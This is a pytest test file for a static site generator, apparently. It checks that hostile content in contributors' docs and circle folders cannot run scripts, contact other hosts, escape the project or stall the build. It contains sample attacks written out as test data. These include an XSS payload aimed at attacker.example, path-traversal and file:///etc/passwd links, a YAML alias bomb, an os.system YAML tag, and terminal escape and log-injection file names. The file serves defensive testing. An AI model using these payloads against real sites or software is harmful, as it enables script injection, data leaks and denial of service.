"""What a pull request to docs/ and circles/ can not do: run anything, read anything else, hold up anyone.

`attacks/*.yml` hold the attacks, one file for each way in. All of them are laid over the minimal project at once, built,
and opened in a real browser that overlooks our Content-Security-Policy: the pages have to be harmless by themselves. The
policy, the second wall, has a test of its own.

An attack names a `body` or a `front` (a guide with this text or these lines of metadata), `circle` or `session` (a copy of
the small circle with texts replaced), or a `file` and its `text`. `shows` is what readers must see of it: what is not
interpreted is not lost either.
"""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

import pytest
import yaml
from support.browser import Served, Visit
from support.pictures import png
from support.project import PROJECTS, TODAY, CircleProject

from circlepress import pipeline

ATTACKS = Path(__file__).parent / "attacks"
MINIMAL = PROJECTS / "minimal"
FACTS = {
    "title": "title: En side", "summary": "summary: En side, som prøver at gøre skade.", "audience": "audience: [participant]",
    "phase": "phase: [run]", "covers": "covers: []", "reviewed": "reviewed: 2026-11-01",
}
PNG = png()


def guide(body: str, front: str = "") -> str:
    """Return a guide with this text, and with these lines of metadata instead of or beside the usual ones."""
    own = re.findall(r"^(\w+):", front, re.MULTILINE)
    return "\n".join(["---", *(line for key, line in FACTS.items() if key not in own), *filter(None, [front]), "---", "", body, ""])


# --- the corpus ----------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    id: str
    name: str
    files: dict[str, str]
    pages: list[str]
    shows: str

    def __str__(self) -> str:
        return f"{self.id} ({self.name})"


def attacks_of(way: str) -> list[Attack]:
    """Return the attacks of one way in, that is, of one file."""
    listed = yaml.safe_load((ATTACKS / f"{way}.yml").read_text("utf-8"))["attacks"]
    return [attack(f"{way}-{number:02}", word(way, number), given) for number, given in enumerate(listed)]


def word(way: str, number: int) -> str:
    """Return a word that stands on no more pages than the search shows at once."""
    return f"lokke{way.replace('-', '')}{'abcdefgh'[number // 12]}"


def attack(identifier: str, word: str, given: dict) -> Attack:
    home = f"circles/{identifier}"
    if "file" in given:
        files, pages = {given["file"]: given["text"]}, given.get("pages", [])
    elif "circle" in given or "session" in given:
        files = {f"{home}/index.da.md": (MINIMAL / "circles/small-circle/index.da.md").read_text("utf-8") + f"\n{word}\n"}
        for name, edits in (("circle.yml", [["languages: [da, sv]", "languages: [da]"], *given.get("circle", [])]),
                            ("sessions/01-begin.da.md", given.get("session", []))):
            text = (MINIMAL / "circles/small-circle" / name).read_text("utf-8")
            for old, new in edits:
                assert old in text, (identifier, old)
                text = text.replace(old, new, 1)
            files[f"{home}/{name}"] = text
        meeting = f"/{home}/da/sessions/01-begin/"
        pages = [f"/{home}/da/", *([meeting, f"{meeting}run-sheet/", f"{meeting}run/"] if "session" in given else [])]
    else:
        files = {f"docs/guides/{identifier}.da.md": guide(f"{word}\n\n{given.get('body', '')}\n\n{word}", given.get("front", ""))}
        pages = [f"/da/guides/{identifier}/"]
    return Attack(identifier, given["name"], files, pages, given.get("shows", ""))


WAYS = sorted(path.stem for path in ATTACKS.glob("*.yml"))
CORPUS = [attack for way in WAYS for attack in attacks_of(way)]
HONEST = """
## Det her er ærligt {#honest}

| Navn | Antal | Pris |
|:-----|:-----:|-----:|
| Æble | 2     | 3    |

- [x] gjort
- [ ] *ikke* gjort endnu

En note[^kilde-å], én til[^2], og den første igen[^kilde-å].

!!! note
    Husk det.

!!! tip "Et råd"
    Prøv det.

??? question "Fold ud"
    Her står svaret.

???+ warning "Står åben"
    Her står advarslen.

HTML er en forkortelse.

Begreb
:   Betydning

3. tre
4. fire

```python
if a < b: print("&")
```

```C#
x
```

![To ringe](../images/rings.png "Ringe"){ width=40 }

En sætning på svensk: *Vi hjälper varandra.*{ lang=sv }

[Den første guide](first.md "Først"), [et andet sted](https://example.org), <https://example.org/x>, <mailto:post@example.org>.

## 1. Først noget med tal

## En overskrift om alt det, som man kan komme til at skrive, når man slet ikke tænker på, hvor lang den bliver

## CP-arbejde og andet

En linje  
og en til.

> Et citat

* * *

[^kilde-å]: Teksten under en note.
[^2]: Og en til.

*[HTML]: det sprog, som "sider" er < skrevet i
"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> CircleProject:
    """The minimal project with every attack in it and one honest guide, built in two languages."""
    project = CircleProject.from_dir("minimal", tmp_path_factory.mktemp("attacked") / "project")
    project.write("docs/guides/honest.da.md", guide(HONEST)).write("docs/images/rings.png", PNG)
    for one in CORPUS:
        for path, text in one.files.items():
            project.write(path, text)
    with contextlib.chdir(project.folder):
        return project.build(languages=("da", "sv"), jobs=os.cpu_count(), with_search=True)


@pytest.fixture(scope="module")
def reader(attacked, chromium) -> Iterator[Visit]:
    """A reader of the attacked site whose browser overlooks our policy."""
    served = Served(attacked.site)
    with Visit(chromium, served, "/", policy=False) as visit:
        yield visit
    served.stop()


def is_built(project: CircleProject, page: str) -> bool:
    return (project.site / page.lstrip("/") / "index.html").is_file()


# --- what a page may hold ------------------------------------------------------------------------------------------

LOOK = """() => {
  const wrong = [];
  const say = (what, element) => wrong.push(`${what}: ${(element.outerHTML ?? String(element)).slice(0, 200)}`);
  if (window.pwned || {}.pwned) say("a script ran", "pwned");
  for (const element of document.querySelectorAll("*"))
    for (const {name} of element.attributes)
      if (name.startsWith("on")) say("handler", element);
  for (const script of document.querySelectorAll("script"))
    if (script.textContent || !script.src.startsWith(location.origin + "/assets/")) say("script", script);
  for (const element of document.querySelectorAll(`iframe, frame, frameset, object, embed, base, style, template, noscript:not(.cp-run > noscript),
      textarea, select:not(dialog.cp-search select), video, audio, source, canvas, math, foreignObject, animate, set, use, marquee, plaintext, xmp,
      main form, main button:not(.cp-run button), main link, main meta, main title:not(svg[class^=cp-] > title), body link, body meta, main svg:not([class^=cp-]),
      main input:not([type=checkbox]), .cp-prose input:not([disabled]), meta[http-equiv]:not([http-equiv=Content-Security-Policy]),
      head > :not(meta, title, link, script), link:not([rel=canonical], [rel=alternate], [rel=icon], [rel=stylesheet])`))
    say("element", element);
  for (const element of document.querySelectorAll(`[style], [srcdoc], [srcset], [ping], [formaction], [autofocus], [contenteditable],
      [popover], [is], [slot], [part], main [target], main [name], main [accesskey], [xlink\\\\:href]`))
    say("attribute", element);
  for (const prose of document.querySelectorAll(".cp-prose"))
    for (const element of prose.querySelectorAll("*")) {
      if (/^(cp-|__)/.test(element.id)) say("id of ours", element);
      for (const name of element.classList) if (name.startsWith("cp-") && name !== "cp-scroll" && !element.matches(".cp-page-templates .cp-blank")) say("class of ours", element);
      for (const {name} of element.attributes) if (name.startsWith("data-")) say("data", element);
    }
  const ids = [...document.querySelectorAll("[id^=cp-]")].map((element) => element.id);
  if (new Set(ids).size !== ids.length) say("an id stands twice", ids.join());
  for (const link of document.querySelectorAll("a[href], area[href], [action]"))
    if (!["https:", "http:", "mailto:", "tel:"].includes(link.protocol ?? new URL(link.href.baseVal, document.baseURI).protocol)) say("address", link);
  for (const link of document.querySelectorAll("link[href], img[src], script[src]"))
    if (new URL(link.href ?? link.src, document.baseURI).origin !== location.origin
        && !["canonical", "alternate"].includes(link.rel)) say("from elsewhere", link);
  const frame = [...document.body.children].map((element) => element.localName + (element.id || element.className ? "." + (element.id || element.className) : ""));
  const whole = ["a.cp-skip", "header.cp-header", "main.cp-content", "footer.cp-footer"];
  const wanted = document.querySelector("main > .cp-gateway") ? ["a.cp-skip", "main.cp-content"] : whole;
  if (frame.filter((name) => name !== "dialog.cp-search").join() !== wanted.join()) say("frame", frame.join());
  const main = document.querySelector("main");
  if (document.getElementById("cp-content") !== main || document.querySelectorAll("main").length !== 1) say("main", main);
  if (main.children.length !== 1) say("more than one thing in main", main);
  if (![...document.body.children].every((element) => element.getBoundingClientRect().height > 0 || element.matches("dialog"))) say("hidden", document.body);
  const footer = document.querySelector("footer.cp-footer");
  if (footer && !footer.querySelector("p")) say("footer", footer);
  if (document.readyState !== "complete") say("still loading", document.readyState);
  return wrong;
}"""

TOUCH = """() => {
  addEventListener("click", (event) => {
    const link = event.target.closest?.("a[href], area[href]");
    if (link && ["http:", "https:", "mailto:", "tel:"].includes(link.protocol ?? new URL(link.href.baseVal, document.baseURI).protocol)) event.preventDefault();
  }, true);
  for (const element of document.querySelectorAll("main, main *")) {
    for (const name of ["pointerenter", "mouseover", "focusin", "toggle"]) element.dispatchEvent(new Event(name));
    if (element.matches("a, button, summary, input, label, area, svg a, [tabindex]")) { element.focus?.(); element.click?.(); element.blur?.(); }
  }
  return [...document.querySelectorAll(".cp-prose a, .cp-prose abbr, .cp-prose img, .cp-prose [title], main dd")].slice(0, 1).map((element) => {
    element.scrollIntoView();
    const box = element.getBoundingClientRect();
    return [box.x + box.width / 2, box.y + box.height / 2];
  });
}"""


def look(visit: Visit, page: str) -> list[str]:
    """Open a page, hover and click whatever can be, and return everything about it that an attacker could be proud of."""
    before = len(visit.requests), len(visit.said)
    visit.page.goto(visit.served.address + page)
    found = visit.page.evaluate(LOOK)
    for x, y in visit.page.evaluate(TOUCH):
        visit.page.mouse.move(x, y)
    found += visit.page.evaluate("() => window.pwned ? ['a script ran after a click'] : []")
    return [*found, *leaks(visit, *before)]


def search_for(visit: Visit, wanted: str) -> tuple[int, list[str]]:
    """Search on the page that is open; return how many pages were found, and what is wrong about what is shown."""
    before = len(visit.requests), len(visit.said)
    if not visit.page.locator("dialog.cp-search[open]").count():
        visit.page.locator(".cp-search-link").click()
    visit.page.locator("dialog.cp-search [type=search]").fill(wanted)
    visit.page.wait_for_function("() => document.querySelector('.cp-search-status').textContent")
    found = visit.page.evaluate(LOOK)
    found += visit.page.evaluate("""() => [...document.querySelectorAll("dialog.cp-search ol *")]
        .filter((element) => !element.matches("li, a, p, mark, span")).map((element) => "in the search: " + element.outerHTML)""")
    return visit.page.locator("dialog.cp-search ol > li").count(), [*found, *leaks(visit, *before)]


def leaks(visit: Visit, requests: int, said: int) -> list[str]:
    """Return the requests to elsewhere and the dialogs since these numbers of requests and messages."""
    home = visit.served.address
    return ([f"request: {url}" for url in visit.requests[requests:] if not url.startswith(home + "/")]
            + [message for message in visit.said[said:] if not message.startswith("Failed to load resource")]
            + ([] if visit.page.url.startswith(home + "/") else [f"led away to {visit.page.url}"]))


# --- in the browser ------------------------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.parametrize("way", WAYS)
def test_nothing_runs(way, attacked, reader):
    """No page with an attack on it runs a script, asks another host, or loses a part of its frame, whatever readers touch or search for."""
    wrong: dict[str, list[str]] = {}
    searched: dict[str, str] = {}
    for number, one in enumerate(attacks_of(way)):
        for page in one.pages:
            if not is_built(attacked, page):
                continue
            if found := look(reader, page):
                wrong[f"{one} {page}"] = found
            if page == f"/da/guides/{one.id}/":
                searched[word(way, number)] = "/da/guides/honest/"
            elif page == f"/circles/{one.id}/da/":
                searched.setdefault(word(way, number), page)
    for wanted, page in searched.items():
        reader.page.goto(reader.served.address + page)
        count, found = search_for(reader, wanted)
        if found or not count:
            wrong[f"{page} searched for {wanted}"] = found or ["nothing was found"]
    assert wrong == {}


@pytest.mark.browser
def test_pages_that_list_others_stay_whole(attacked, reader):
    """Lists, directories, gateways and error pages, which show the titles of all attacks, hold no more than they should."""
    lists = [f"/{language}/{page}" for language in ("da", "sv") for page in ("", "guides/", "methods/", "themes/", "circles/", "glossary/", "all/", "translations/")]
    gateways = [f"/{path.relative_to(attacked.site).as_posix()}/" for path in sorted(attacked.site.glob("circles/circles-*"))[:6]]
    assert {page: found for page in ["/", "/404.html", "/da/404.html", *lists, *gateways] if (found := look(reader, page))} == {}


@pytest.mark.browser
def test_honest_markdown_survives(attacked, reader):
    """What honest authors write reaches the page whole, and the sanitiser has nothing to say about it."""
    assert [problem for problem in attacked.published.problems if problem.place.path == "docs/guides/honest.da.md"
            and (problem.is_error or problem.code == "removed-by-sanitiser")] == []
    assert look(reader, "/da/guides/honest/") == []
    reader.page.reload()  # looking folds boxes
    there = reader.page.evaluate("""() => Object.fromEntries(Object.entries({
      table: "table th.align-center[scope=col]", cell: "td.align-right", done: ".task-list input[checked][disabled][aria-label=gjort]",
      open: ".task-list input[type=checkbox]:not(:checked)", note: "sup > a.footnote-ref[href='#fn:kilde-å']", noteText: "li[id='fn:kilde-å']",
      back: "li[id='fn:kilde-å'] a.footnote-backref[href='#fnref:kilde-å']", box: ".admonition.note > .admonition-title",
      titled: ".admonition.tip", folded: "details.question:not([open]) > summary", unfolded: "details.warning[open]",
      abbreviation: 'abbr[title*=\\'"sider" er < skrevet\\']', definition: "dl dd", start: "ol[start='3']",
      code: "code.language-python", sharp: "code[class='language-C#']", picture: "img[alt='To ringe'][title=Ringe][width='40'][src$='images/rings.png']",
      swedish: "em[lang=sv]", link: "a[title='Først'][href='../first/']", away: "a[href='https://example.org']",
      itself: "a[href='https://example.org/x']", mail: "a[href='mailto:post@example.org']", heading: "h2#honest",
      number: "h2#part-1-foerst-noget-med-tal", long: "h2[id^='en-overskrift-om-alt']", own: "h2#part-cp-arbejde-og-andet",
      line: "p br", quotation: "blockquote", rule: "hr",
    }).map(([name, selector]) => [name, document.querySelectorAll(".cp-prose " + selector).length]))""")
    assert [name for name, count in there.items() if not count] == []


@pytest.mark.browser
def test_the_policy_stops_what_the_sanitiser_let_through(project, chromium):
    """Were a page to hold an attack after all, the browser would neither run it nor ask anyone for anything."""
    page = project.build(languages=("da",)).site / "da/guides/first/index.html"
    attack = ('<script>pwned = 1</script><script src="https://attacker.example/x.js"></script><img src="x" onerror="pwned = 1">'
              '<a href="javascript:pwned = 1" id="trap">x</a><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>'
              '<img src="https://attacker.example/x.png"><link rel="stylesheet" href="https://attacker.example/x.css">'
              '<form action="https://attacker.example/"><button id="send">x</button></form><base href="https://attacker.example/">'
              '<object data="https://attacker.example/x"></object><p style="background: url(https://attacker.example/y.png)">x</p>')
    page.write_text(page.read_text("utf-8").replace("</main>", attack + "</main>"), "utf-8")
    served = Served(project.site)
    with Visit(chromium, served, "/da/guides/first/") as visit:
        sent: list[str] = []
        visit.page.on("response", lambda response: sent.append(response.url))
        visit.page.locator("#trap").click()
        visit.page.evaluate("() => document.querySelector('#send').click()")
        visit.page.wait_for_timeout(200)
        assert visit.page.evaluate("() => window.pwned") is None
        assert visit.page.url == served.address + "/da/guides/first/"
        assert [url for url in sent if "attacker" in url] == []
        refused = " ".join(visit.said)
        assert all(directive in refused for directive in ("script-src", "img-src", "style-src", "form-action", "base-uri"))
    served.stop()


# --- the corpus itself ---------------------------------------------------------------------------------------------


def test_most_attacks_reach_a_page(attacked):
    """An attack is stopped on its page or refused by name, never ignored; at least half get as far as a page."""
    blamed = {problem.place.path for problem in attacked.published.problems}
    reached = [one for one in CORPUS if any(is_built(attacked, page) for page in one.pages)]
    neither = [str(one) for one in CORPUS if one not in reached and not any(
        blamed & {printable(str(place)) for place in (PurePosixPath(path), *PurePosixPath(path).parents)} for path in one.files)]
    assert neither == []
    assert len(reached) >= len(CORPUS) / 2, f"only {len(reached)} of {len(CORPUS)}"
    assert not (attacked.folder / "pwned").exists()


def printable(path: str) -> str:
    return "".join(c if c.isprintable() else "�" for c in path)


def test_what_is_not_interpreted_is_shown(attacked):
    """Readers see what authors typed: HTML, template marks and odd metadata are text, not lost text."""
    import html

    def text_of(page: str) -> str:
        return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", attacked.main(page))).split()) if is_built(attacked, page) else ""

    assert [str(one) for one in CORPUS if one.shows and not any(" ".join(one.shows.split()) in text_of(page) for page in one.pages)] == []


def test_every_edition_is_built_in_spite_of_all_attacks(attacked):
    """No attack keeps the handbook or another circle from being published, or a page from becoming HTML."""
    assert [edition.edition.name for edition in attacked.published.editions if not edition.folder] == []
    assert [str(problem.place) for problem in attacked.published.problems if problem.code == "page-not-rendered"] == []
    attacked.assert_built("/da/guides/second/").assert_built("/sv/guides/second/").assert_built("/circles/small-circle/da/")


def test_only_known_files_are_published(attacked):
    """Whatever lies in docs/ and circles/, the site holds pages, accepted pictures, calendars, search files and our own assets."""
    kinds = {path.suffix for path in attacked.site.rglob("*") if path.is_file()}
    assert kinds <= {"", ".html", ".xml", ".css", ".js", ".svg", ".ics", ".json", ".png", ".pagefind", ".pf_index", ".pf_fragment", ".pf_meta"}
    assert [path.name for path in attacked.site.rglob("*.svg")] == ["mark.svg"]
    assert sorted(path.relative_to(attacked.site).as_posix() for path in attacked.site.rglob("*.png")) == ["da/images/rings.png", "sv/images/rings.png"]
    own = {path.name for path in (Path(__file__).parent.parent / "overrides/assets").iterdir()} | {"pagefind.js"}
    assert {path.name for path in attacked.site.rglob("*.js")} <= own
    assert "alert(1)" not in "".join(path.read_text("utf-8") for path in attacked.site.rglob("*.js"))


def test_words_cannot_add_lines_to_a_calendar(attacked):
    """Line ends in a title stay inside their property (RFC 5545, section 3.3.11)."""
    calendars = [path.read_bytes().decode() for path in attacked.site.rglob("calendar.ics")]
    assert calendars and any("ATTENDEE" in text for text in calendars)
    for text in calendars:
        unfolded = text.replace("\r\n ", "")
        assert "\n" not in unfolded.replace("\r\n", "") and "\r" not in unfolded.replace("\r\n", "")
        assert [line for line in unfolded.split("\r\n") if line.startswith("ATTENDEE")] == []


# --- files that are not what they seem -----------------------------------------------------------------------------

SECRET = "hemmeligheden"


def everything_published(project: CircleProject) -> str:
    return "\n".join(path.read_bytes().decode("utf-8", "replace") for path in sorted(project.site.rglob("*")) if path.is_file())


def test_links_to_other_files_are_refused_and_never_published(project, tmp_path):
    """A symbolic link, to a file or a folder, inside the project or out of it, is named and not followed."""
    outside = CircleProject.from_dir("minimal", tmp_path / "outside")
    outside.write("secret.md", guide(SECRET)).write("secret.png", PNG + SECRET.encode()).write("docs/guides/secret.da.md", guide(SECRET))
    outside.write("circles/small-circle/index.da.md", guide(SECRET))
    links = {
        "docs/guides/linked.da.md": outside.folder / "secret.md", "docs/images/linked.png": outside.folder / "secret.png",
        "docs/stories": outside.folder / "docs/guides", "circles/linked": outside.folder / "circles/small-circle",
        "circles/small-circle/images": outside.folder, "docs/guides/inside.da.md": Path("first.da.md"),
        "docs/guides/nowhere.da.md": Path("/nowhere"), "docs/checklists": Path("/"), "docs/guides/itself.da.md": Path("itself.da.md"),
    }
    for name, target in links.items():
        (project.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (project.folder / name).symlink_to(target)
    project.build(languages=("da",)).assert_built("/da/guides/first/").assert_built("/circles/small-circle/da/")
    assert sorted(p.place.path for p in project.published.problems if p.code == "file-link") == sorted(links)
    assert SECRET not in everything_published(project)
    assert not [address for address in project.addresses() if "linked" in address or "inside" in address]


@pytest.mark.parametrize("name", ["docs", "circles"])
def test_a_content_folder_that_is_a_link_is_refused(project, tmp_path, name):
    """When docs/ or circles/ itself is a symbolic link, nothing below it is read."""
    elsewhere = tmp_path / "elsewhere"
    (project.folder / name).rename(elsewhere)
    (elsewhere / "guides").mkdir(exist_ok=True)
    (elsewhere / "guides/secret.da.md").write_text(guide(SECRET), "utf-8")
    (project.folder / name).symlink_to(elsewhere, target_is_directory=True)
    project.build(languages=("da",))
    assert [(p.place.path, p.code) for p in project.published.problems if p.code == "file-link"] == [(name, "file-link")]
    assert SECRET not in everything_published(project)
    assert project.is_built("/da/guides/first/") == (name != "docs")
    assert not [address for address in project.addresses() if f"/{name}/" in address and "small" in address]


def test_paths_never_lead_out_of_the_project(project, tmp_path):
    """Absolute paths and `..` in links and pictures are broken links; nothing outside is copied or linked to."""
    (tmp_path / "secret.png").write_bytes(PNG + SECRET.encode())
    (tmp_path / "images").mkdir()
    (tmp_path / "images/secret.png").write_bytes(PNG + SECRET.encode())
    (tmp_path / "secret.md").write_text(guide(SECRET), "utf-8")
    targets = ["../../../secret.png", f"{tmp_path}/secret.png", "../../../images/secret.png", "../images/../../../secret.png",
               "%2e%2e/%2e%2e/%2e%2e/secret.png", "../../../secret.md", f"{tmp_path}/secret.md", "/secret.md", "../../mkdocs.yml", "file:///etc/passwd"]
    body = "\n\n".join(f"![x]({target}) [y]({target})" for target in targets)
    project.write("docs/guides/paths.da.md", guide(body)).build(languages=("da",)).assert_built("/da/guides/paths/")
    blamed = [p for p in project.published.problems if p.place.path == "docs/guides/paths.da.md" and p.code in ("broken-link", "unsafe-link")]
    assert len({(p.place.line, p.place.column) for p in blamed}) == 2 * len(targets)
    assert SECRET not in everything_published(project)
    assert not list(project.site.rglob("secret*"))
    assert "passwd" not in project.main("/da/guides/paths/")


# --- files that are too much ---------------------------------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
TOO_MUCH = {
    "docs/guides/latin.da.md": (guide("Æble").encode("latin-1"), {"file-encoding"}),
    "docs/guides/sixteen.da.md": (guide("Æble").encode("utf-16"), {"file-encoding"}),
    "docs/guides/nothing.da.md": (guide("a\0b").encode(), {"file-encoding"}),
    "docs/guides/nothing-in-metadata.da.md": (guide("x", "authors: [a\0b]").encode(), {"yaml-syntax"}),
    "docs/guides/large.da.md": (guide("Et ord. " * 650_000).encode(), {"file-too-large"}),
    "docs/guides/much-metadata.da.md": (guide("x", f"authors: [{'a, ' * 30_000}]").encode(), {"file-too-large"}),
    "docs/guides/bomb.da.md": (guide("x", BOMB).encode(), {"yaml-alias"}),
    "docs/guides/brackets.da.md": (guide("x", f"authors: {'[' * 20_000}").encode(), {"yaml-too-deep"}),
    "docs/guides/braces.da.md": (guide("x", f"authors: {'{a: ' * 10_000}").encode(), {"yaml-too-deep"}),
    "docs/guides/many-values.da.md": (guide("x", f"authors: [{'a,' * 25_000}]").encode(), {"yaml-too-deep"}),
    "docs/guides/tag.da.md": (guide("x", 'authors: !!python/object/apply:os.system ["true"]').encode(), {"yaml-tag"}),
    "docs/images/huge.png": (PNG + b"\0" * 6_000_000, {"file-too-large"}),
    "docs/images/other.png": (b"GIF89a" + b"\0" * 40, {"file-type"}),
}


@pytest.fixture(scope="module")
def overloaded(tmp_path_factory) -> CircleProject:
    project = CircleProject.from_dir("minimal", tmp_path_factory.mktemp("overloaded") / "project")
    for path, (content, _) in TOO_MUCH.items():
        project.write(path, content)
    return project.build(languages=("da",))


@pytest.mark.parametrize("path", TOO_MUCH)
def test_a_file_that_is_too_much_is_one_clear_problem(overloaded, path):
    """Each gives problems of one code, left out of the site; the handbook and the circle are published all the same."""
    assert {p.code for p in overloaded.published.problems if p.place.path == path} == TOO_MUCH[path][1]
    address = "/da/" + path.removeprefix("docs/").removesuffix(".da.md") + "/"
    assert not overloaded.is_built(address) and not list(overloaded.site.rglob(Path(path).name))
    overloaded.assert_built("/da/guides/first/").assert_built("/circles/small-circle/da/")


def test_pages_that_cannot_be_converted_are_set_aside(project):
    """Each page whose text Python-Markdown gives up on is shown as plain text and named; all others are published as ever."""
    deep = [f"docs/guides/deep-{number}.da.md" for number in range(8)]  # more than an edition is rendered times
    for path in deep:
        project.write(path, guide("Før.\n\n" + "1. " * 1500))
    project.write("docs/guides/angle.da.md", guide("<![ x\n\n<![CDATA[ y"))
    project.build(languages=("da",)).assert_built("/da/guides/first/").assert_built("/da/guides/angle/").assert_built("/circles/small-circle/da/")
    assert [edition.edition.name for edition in project.published.editions if not edition.folder] == []
    assert sorted(p.place.path for p in project.published.problems if p.code == "page-not-rendered") == deep
    assert "<pre><code>Før.\n\n1. 1. 1. " in project.main("/da/guides/deep-3/")


def test_a_page_that_takes_too_long_is_set_aside(project):
    """A text that would take hours is shown as plain text and named, and holds up nobody."""
    project.write("docs/guides/slow.da.md", guide("[" * 100_000))
    impatient = "from circlepress import cli, page_clock; page_clock.SECONDS = 1; cli.main()"
    built = subprocess.run([sys.executable, "-c", impatient, "build", "--language", "da", "--jobs", "1"],
                           cwd=project.folder, capture_output=True, text=True, timeout=60)
    assert "docs/guides/slow.da.md: error[page-not-rendered]" in built.stdout, built.stdout + built.stderr
    assert "<pre><code>[[[[" in project.assert_built("/da/guides/first/").main("/da/guides/slow/")


def test_three_thousand_brackets_are_built_in_time(project):
    """A page of 3,000 opening brackets, for which Python-Markdown needs seconds, is a page like others."""
    project.write("docs/guides/brackets.da.md", guide("[" * 3000))
    built = subprocess.run([sys.executable, "-m", "circlepress", "build", "--language", "da", "--date", "2026-11-24"],
                           cwd=project.folder, capture_output=True, text=True, timeout=120)
    assert "page-not-rendered" not in built.stdout, built.stdout + built.stderr
    assert "[" * 3000 in project.main("/da/guides/brackets/")


def test_no_text_keeps_the_check_busy(project):
    """Texts made to send a search for links, headings, placeholders or addresses back and forth are checked like others."""
    for name, body in {"links": "\\[" * 60_000, "link-ends": "[x](" + " " * 190_000, "headings": "# a" + "#" * 190_000 + "a",
                       "heading-ids": "# a {" + " " * 190_000 + "b", "spans": " ".join("`" * n for n in range(1, 500))}.items():
        project.write(f"docs/guides/{name}.da.md", guide(body))
    letter = guide("{{" + " " * 190_000).replace("reviewed:", "kind: letter\nper: circle\nreviewed:")
    project.write("docs/templates/placeholders.da.md", letter)
    project.edit("circles/small-circle/circle.yml", "contact: ane.lund@example.org", f'contact: "a@{"." * 300_000} "')
    project.edit("circles/small-circle/circle.yml", "language: da\n", "language: da\n" + "".join(f"key{n}: x\n" for n in range(2000)))
    subprocess.run([sys.executable, "-m", "circlepress", "check"], cwd=project.folder, capture_output=True, timeout=60)


ODD_FACTS = {
    "a date far away": ("circles/small-circle/circle.yml", "end: 2026-12-15\n", "end: 9999-12-31\n"),
    "a date long ago": ("circles/small-circle/sessions/01-begin.da.md", "date: 2026-09-10", "date: 0001-01-01"),
    "a language twice": ("circles/small-circle/circle.yml", "languages: [da, sv]", "languages: [da, da, sv, da]"),
    "a method that is not there": ("circles/small-circle/sessions/01-begin.da.md", "method: round", "method: gone"),
    "a title over lines": ("circles/small-circle/circle.yml", "{da: En lille cirkel, sv: En liten cirkel}", '"a\\n---\\nb"'),
    "a number without end": ("circles/small-circle/circle.yml", "hours: 20", "hours: " + "9" * 5000),
    "a country that is not there": ("circles/small-circle/circle.yml", "country: DK", "country: XX"),
    "a surrogate": ("docs/guides/second.da.md", "title: Den anden guide", 'title: "a\\ud800"'),
    "a zone that is a folder": ("circles/small-circle/circle.yml", "Europe/Copenhagen", "America"),
}


@pytest.mark.parametrize("fact", ODD_FACTS)
def test_an_odd_fact_never_stops_the_build(project, fact):
    """A fact nobody thought of costs at most its own page or circle."""
    project.edit(*ODD_FACTS[fact]).build(languages=("da",)).assert_built("/da/guides/first/")
    assert [e.edition.name for e in project.published.editions if not e.folder] == []


def test_a_glossary_term_without_words_is_left_out(project):
    """A term that nobody has translated yet, or only into a language the project lacks, does not stop the handbook."""
    project.write("docs/glossary.yml", "terms:\n  empty: {}\n  other: {xx: {term: odd}}\n  whole: {da: {term: cirkel}}\n").build(languages=("da",))
    assert re.findall(r'id="term-(\w+)"', project.main("/da/glossary/")) == ["whole"]


def test_what_is_printed_obeys_no_file(project):
    """A file cannot write escape sequences to the terminal or commands into a build log by its name or its contents."""
    project.write("docs/guides/a\x1b[2J\n::error::b.da.md", "x").write("docs/guides/c.da.md", guide("x", '"d\\e[2J": x\n"e\\n::error::f": x'))
    for arguments in (["check"], ["build", "--language", "da"]):
        printed = project.run(*arguments)
        assert "\x1b" not in printed.stdout + printed.stderr
        assert not [line for line in printed.stdout.splitlines() if line.startswith("::")]


def test_pipeline_answers_for_each_attack_alone(tmp_path):
    """Also alone, without the others, no attack makes `check` raise."""
    project = CircleProject.from_dir("minimal", tmp_path / "project")
    for one in CORPUS:
        added = [(project.folder / path, (project.folder / path).read_bytes() if (project.folder / path).is_file() else None) for path in one.files]
        for path, text in one.files.items():
            project.write(path, text)
        pipeline.check(project.folder, TODAY)
        for path, before in added:
            path.unlink() if before is None else path.write_bytes(before)
